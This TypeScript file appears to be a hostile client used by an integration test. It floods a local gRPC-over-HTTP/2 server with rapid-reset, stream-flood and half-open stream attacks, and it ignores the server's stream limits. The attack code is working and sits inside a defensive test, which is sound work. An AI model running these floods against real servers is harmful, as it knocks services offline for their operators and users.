/** A client that means harm, for flood.int.test.ts: `node attacker.ts <attack>`; certificates and address on its channel. */
import { type ClientHttp2Session, connect, constants } from 'node:http2';

interface Target {
  readonly port: number;
  readonly authority: string;
  readonly certificate: string;
  readonly privateKey: string;
}

const headers = {
  ':method': 'POST',
  ':path': '/yijie.treatment.v1.TreatmentService/GetOutcome',
  'content-type': 'application/grpc',
  te: 'trailers',
};
const emptyMessage = Buffer.alloc(5);
let sent = 0;

process.once('message', (target: Target) => {
  const attack = process.argv[2];
  const connections = attack === 'rapid-reset' ? 1 : 3;
  for (let count = 0; count < connections; count += 1) attackOn(target, attack ?? '');
  setInterval(() => process.send?.({ sent }), 200);
});

function attackOn(target: Target, attack: string): void {
  const session = connect(`https://127.0.0.1:${target.port}`, {
    ca: target.authority,
    cert: target.certificate,
    key: target.privateKey,
    // As many as it likes, whatever the server says.
    peerMaxConcurrentStreams: 100_000,
  });
  session.on('error', () => undefined);
  session.once('close', () => {
    setTimeout(() => attackOn(target, attack), 10);
  });
  session.once('connect', () => {
    const turn = (): void => {
      if (session.destroyed || session.closed) return;
      for (let count = 0; count < 100; count += 1) attackOnce(session, attack);
      setImmediate(turn);
    };
    turn();
  });
}

let open = 0;

function attackOnce(session: ClientHttp2Session, attack: string): void {
  if (session.destroyed || session.closed || open > 20_000) return;
  const stream = session.request(headers);
  open += 1;
  sent += 1;
  stream.on('error', () => undefined);
  stream.on('close', () => {
    open -= 1;
  });
  if (attack === 'rapid-reset') {
    stream.end(emptyMessage);
    stream.close(constants.NGHTTP2_CANCEL);
  } else if (attack === 'stream-flood') {
    stream.end(emptyMessage);
    stream.resume();
  } else {
    // Half-open: a call that never says what it wants.
    stream.write(emptyMessage.subarray(0, 3));
  }
}
